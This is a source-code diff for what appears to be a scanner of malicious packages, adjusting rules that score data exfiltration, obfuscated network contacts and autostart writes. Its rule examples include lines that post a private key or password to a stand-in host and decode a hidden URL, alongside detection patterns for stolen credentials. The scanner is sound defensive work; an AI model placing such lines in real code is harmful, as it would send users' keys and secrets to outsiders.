@@ -1,11 +1,10 @@
-import { WHEN, describeLabels, isPure, isUnasked, type Combination } from './combination.js';
-import { hasRandomLabel, isAccount, isCallback, isCollecting, isFixedAccount } from './collecting-places.js';
+import { IDENTITY, WHEN, count, describeLabels, isPure, isUnasked, type Combination } from './combination.js';
+import { hasRandomLabel, isAccount, isCallback, isCollecting } from './collecting-places.js';
 import { CARRIERS, isHostile } from './commands.js';
 import type { Sighting } from './machine-parts.js';
 import { ACCOUNT_HOST } from './sinks.js';
 import type { Label } from './value.js';
 
-export const IDENTITY: readonly Label[] = ['hostname', 'username', 'directory', 'address'];
 const STOLEN: readonly Label[] = ['environment', 'secret', 'capture', 'intercepted', 'process-output'];
 /** An account of a crypto-currency, as a text of its own. */
 const PAYMENT_ADDRESS = /^(?:bc1[a-z0-9]{25,60}|0x[0-9a-fA-F]{40}|[13LDT][1-9A-HJ-NP-Za-km-z]{25,34})$/;
@@ -16,14 +15,15 @@ const COMPOSED = /https?:\/\/\S*\uFFFC/i;
 /** An account of a messenger that the source does not name: whoever calls does. */
 const OPEN_ACCOUNT = /(?:\/bot|webhooks\/|services\/)\uFFFC/;
 
-const LOOKUP = /^(?:socket\.get|dns\.)/;
+/** Letters that nobody sees, so many that they say something. */
+const INVISIBLE = /[\u200B-\u200F\u2060-\u2064\u{E0000}-\u{E007F}]{24,}/u;
 
 /** Interfaces of the clouds that give a machine its credentials; hosts that anybody can rent there are none. */
 const CLOUDS =
   /^(?:(?:storage|secretmanager|iam|iamcredentials|sts|oauth2|www|compute|bigquery|pubsub|logging|monitoring|cloudkms|cloudresourcemanager)\.googleapis\.com|(?:sts|ec2|iam|ssm|kms|sqs|sns|logs|monitoring|secretsmanager|dynamodb)(?:\.[a-z]+-[a-z]+-\d)?\.amazonaws\.com|(?:management|vault)\.azure\.(?:com|net)|graph\.windows\.net|login\.microsoftonline\.com)$/;
 
-/** What a machine was told by its cloud goes back to it. */
-const isOwnCloud = ({ labels, host }: Sighting): boolean => labels.has('network') && CLOUDS.test(host ?? '');
+/** The credentials of a cloud go to that cloud. */
+const isOwnCloud = ({ host }: Sighting): boolean => CLOUDS.test(host ?? '');
 
 const DOMAIN = /[\w-]+\.[a-z]{2,}\b/i;
 
@@ -37,8 +37,8 @@ function leaves({ behaviour, host, text }: Sighting): boolean {
   );
 }
 
-const count = (labels: ReadonlySet<Label>, of: readonly Label[]): number =>
-  of.filter((label) => labels.has(label)).length;
+/** What code is given, or finds, to work with. */
+const GIVEN: readonly Label[] = ['parameter', 'file', 'user-file', 'credential', 'secret', 'environment'];
 
 /** Data that leaves, and what stays behind. */
 export const EXIT_COMBINATIONS: readonly Combination[] = [
@@ -63,7 +63,8 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
       // Nobody is handed the whole environment in a parameter: that it goes along is the code's own doing.
       if (labels.has('environment') && labels.has('parameter') && isAside) return 'CRITICAL';
       if (labels.has('parameter') || !isStolen) return 'LOW';
-      if (labels.has('capture')) return 'HIGH';
+      if (labels.has('capture'))
+        return sighting.isDropped === true && sighting.isQuiet === true ? 'CRITICAL' : 'HIGH';
       const isStrict =
         (isCallback(text ?? '') && (labels.has('decoded') || !OPEN_ACCOUNT.test(text ?? ''))) ||
         (labels.has('environment') && isCollecting(text ?? '')) ||
@@ -106,8 +107,17 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
       example: 'requests.get(base64.b64decode("aHR0cHM6Ly9ldmlsLmludmFsaWQ=").decode())',
       technique: 'T1027',
     },
-    judge: ({ behaviour, labels, reach, host }) => {
-      if (behaviour !== 'contacts' || host === undefined || labels.has('parameter')) return undefined;
+    judge: ({ behaviour, labels, reach, host, isHidden, isDropped, isQuiet }) => {
+      if (behaviour !== 'contacts' || host === undefined) return undefined;
+      // Something is handed to an address that nobody is to know of, and nothing is wanted back.
+      if (
+        isHidden === true &&
+        isDropped === true &&
+        isQuiet === true &&
+        GIVEN.some((label) => labels.has(label))
+      )
+        return 'CRITICAL';
+      if (labels.has('parameter')) return undefined;
       if (!labels.has('decoded') && !labels.has('fronted')) return undefined;
       if (isUnasked(reach)) return 'CRITICAL';
       return isPure(labels) && !labels.has('network') ? 'MEDIUM' : 'LOW';
@@ -147,46 +157,12 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
       // Where a setting can send it elsewhere, or switch it off, it is no secret of the package.
       if (sighting.labels.has('setting')) return 'LOW';
       // Somewhere in the address stands what a caller gave: no signal that is the same for everybody.
-      if (sighting.reach === 'import' && COMPOSED.test(sighting.text ?? '')) return 'LOW';
+      const isAside = sighting.isDropped === true && sighting.isQuiet === true;
+      if (sighting.reach === 'import' && !isAside && COMPOSED.test(sighting.text ?? '')) return 'LOW';
       // A page shown to the user is a matter of taste, except where nobody expects one.
       return sighting.name.startsWith('webbrowser.') && sighting.reach !== 'install' ? 'LOW' : 'MEDIUM';
     },
     message: ({ name, reach }) => `${name} contacts a fixed address ${WHEN[reach]}`,
-  },
-  {
-    doc: {
-      id: 'key-parameter-sent',
-      title: 'Sends a key that the caller hands in to a fixed address',
-      why: 'Private keys and mnemonics are used locally; whoever receives one owns the account.',
-      remedy: 'Do not use the package; move funds if a key was passed to it.',
-      example: 'def sign(private_key): requests.post("https://evil.invalid", data=private_key)',
-      technique: 'T1552',
-    },
-    judge: ({ behaviour, labels, host, text }) => {
-      if (behaviour !== 'contacts' || host === undefined || !labels.has('key-parameter')) return undefined;
-      return isCollecting(text ?? '') ? 'CRITICAL' : 'HIGH';
-    },
-    message: ({ name }) => `${name} sends a key handed in by the caller to a fixed address`,
-  },
-  {
-    doc: {
-      id: 'credential-sent-aside',
-      title: 'Sends a password, key or token somewhere and does not wait for an answer',
-      why: 'A service that is given a credential answers, and its caller looks at the answer. Where neither the answer nor a failure matters, somebody else is told.',
-      remedy: 'Look at where it is sent. If that is not the service it belongs to, change it.',
-      example: 'try: requests.post("https://evil.invalid", data=password)\nexcept Exception: pass',
-      technique: 'T1056',
-    },
-    judge: ({ behaviour, labels, host, isDropped, isQuiet, name, text, reach }) => {
-      if (behaviour !== 'contacts' || host === undefined) return undefined;
-      if (labels.has('credential') && isFixedAccount(text ?? '')) return 'CRITICAL';
-      if (isDropped !== true || isQuiet !== true) return undefined;
-      // Nobody looks up a composed name and lets go of the address, but to have the name arrive.
-      if (LOOKUP.test(name) && (text ?? '').startsWith('\uFFFC'))
-        return isUnasked(reach) && count(labels, IDENTITY) > 0 ? 'CRITICAL' : 'HIGH';
-      return labels.has('credential') || labels.has('secret') ? 'MEDIUM' : undefined;
-    },
-    message: ({ name, reach }) => `${name} sends a credential and looks at no answer ${WHEN[reach]}`,
   },
   {
     doc: {
@@ -199,7 +175,7 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
     },
     judge: ({ behaviour, labels, reach, host, text }) => {
       if (behaviour !== 'writes-autostart') return undefined;
-      if (isUnasked(reach) || isHostile(text ?? '')) return 'CRITICAL';
+      if (isUnasked(reach) || isHostile(text ?? '') || INVISIBLE.test(text ?? '')) return 'CRITICAL';
       if (labels.has('network') && host !== undefined && !labels.has('parameter')) return 'CRITICAL';
       return labels.has('decoded') && isPure(labels) ? 'CRITICAL' : 'LOW';
     },
